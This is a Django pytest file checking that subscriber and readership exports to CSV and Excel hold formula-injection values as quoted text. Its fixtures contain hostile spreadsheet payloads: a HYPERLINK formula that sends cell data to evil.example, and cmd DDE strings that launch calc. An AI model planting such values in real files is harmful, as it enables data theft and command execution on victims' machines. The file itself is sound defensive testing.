"""No CSV or Excel file the project writes contains a live formula (CSV/formula injection).

A name, organization, phone or article title that begins with =, +, -, @, a tab or a carriage
return is written with a leading quote, and Excel cells hold it as text, never as a formula.
"""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from apps.articles.models import Article, Industry
from apps.subscribers.models import Subscriber
from apps.subscribers.resources import COLUMNS
from tests.factories import ArticleFactory, IssueFactory, StaffFactory, SubscriberFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "last_name": '=HYPERLINK("http://evil.example/?d="&A2,"点此")',
    "organization": "+cmd|' /C calc'!A0",
    "position": "-2+3",
    "phone": "+86 374 1234567",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
}
NEUTRALISED = {key: "'" + value for key, value in HOSTILE.items()}


@pytest.fixture
def hostile_subscriber():
    return SubscriberFactory(
        kind=Subscriber.Kind.LEADERSHIP,
        user__username="hostile",
        user__last_name=HOSTILE["last_name"],
        organization=HOSTILE["organization"],
        position=HOSTILE["position"],
        phone=HOSTILE["phone"],
        notes=HOSTILE["notes"],
    )


def assert_no_formula(workbook):
    for sheet in workbook.worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))


def export(client, fmt):
    fields = {f"subscriberresource_{key}": "on" for key in COLUMNS}
    return client.post(
        reverse("admin:subscribers_subscriber_export"),
        {"format": fmt, "resource": "0", **fields},
    )


def test_subscriber_xlsx_export_holds_hostile_values_as_text(subadmin_client, hostile_subscriber):
    response = export(subadmin_client, "0")

    workbook = load_workbook(io.BytesIO(response.content))
    assert_no_formula(workbook)
    values = list(workbook.active.iter_rows(values_only=True))[1]
    for value in NEUTRALISED.values():
        assert value in values


def test_subscriber_csv_export_neutralises_and_imports_back_unchanged(
    subadmin_client, hostile_subscriber
):
    response = export(subadmin_client, "1")

    content = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    header, values = rows[0], rows[1]
    exported = dict(zip(header, values, strict=True))
    assert exported[COLUMNS["full_name"]] == NEUTRALISED["last_name"]
    assert exported[COLUMNS["organization"]] == NEUTRALISED["organization"]
    assert exported[COLUMNS["position"]] == NEUTRALISED["position"]
    assert exported[COLUMNS["phone"]] == NEUTRALISED["phone"]
    assert exported[COLUMNS["notes"]] == NEUTRALISED["notes"]
    for cell in values:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))

    # The exported file imported again leaves the subscriber as it was: the quote that kept
    # "+86 …" from being a formula is not taken into the data.
    upload = SimpleUploadedFile("订户.csv", response.content)
    preview = subadmin_client.post(
        reverse("admin:subscribers_subscriber_import"),
        {"import_file": upload, "format": "1", "resource": "0"},
    )
    form = preview.context["confirm_form"]
    subadmin_client.post(reverse("admin:subscribers_subscriber_process_import"), form.initial)
    hostile_subscriber.refresh_from_db()
    hostile_subscriber.user.refresh_from_db()
    assert hostile_subscriber.phone == HOSTILE["phone"]
    assert hostile_subscriber.organization == HOSTILE["organization"]
    assert hostile_subscriber.user.last_name == HOSTILE["last_name"]


def test_readership_workbook_holds_hostile_titles_and_names_as_text(client, hostile_subscriber):
    issue = IssueFactory(visible=True)
    ArticleFactory(issue=issue, status=Article.Status.PUBLISHED, title="=1+1 新材料", position=1)
    client.force_login(StaffFactory(username="root", is_superuser=True))

    response = client.get(reverse("admin:readership_reading_export", args=[issue.pk]))

    workbook = load_workbook(io.BytesIO(response.content))
    assert_no_formula(workbook)
    summary = [cells[:2] for cells in workbook["概况"].iter_rows(values_only=True)]
    assert ("'=1+1 新材料", 0) in summary
    grid = list(workbook["领导阅读情况"].iter_rows(values_only=True))
    assert grid[0][3] == "'=1+1 新材料"
    assert (
        NEUTRALISED["last_name"],
        NEUTRALISED["organization"],
        NEUTRALISED["position"],
        "未读",
    ) in grid


def test_import_template_holds_industry_names_as_text(subadmin_client):
    # The template's cells begin with our own text; industry names (editable by reviewers)
    # come after it. Checked all the same, as every file we write is.
    Industry.objects.filter(pk=Industry.objects.first().pk).update(name="=cmd|' /C calc'!A0")

    response = subadmin_client.get(reverse("admin:subscribers_template"))

    workbook = load_workbook(io.BytesIO(response.content))
    assert_no_formula(workbook)
    guide = " ".join(str(c) for r in workbook["填写说明"].iter_rows(values_only=True) for c in r)
    assert "=cmd|' /C calc'!A0" in guide
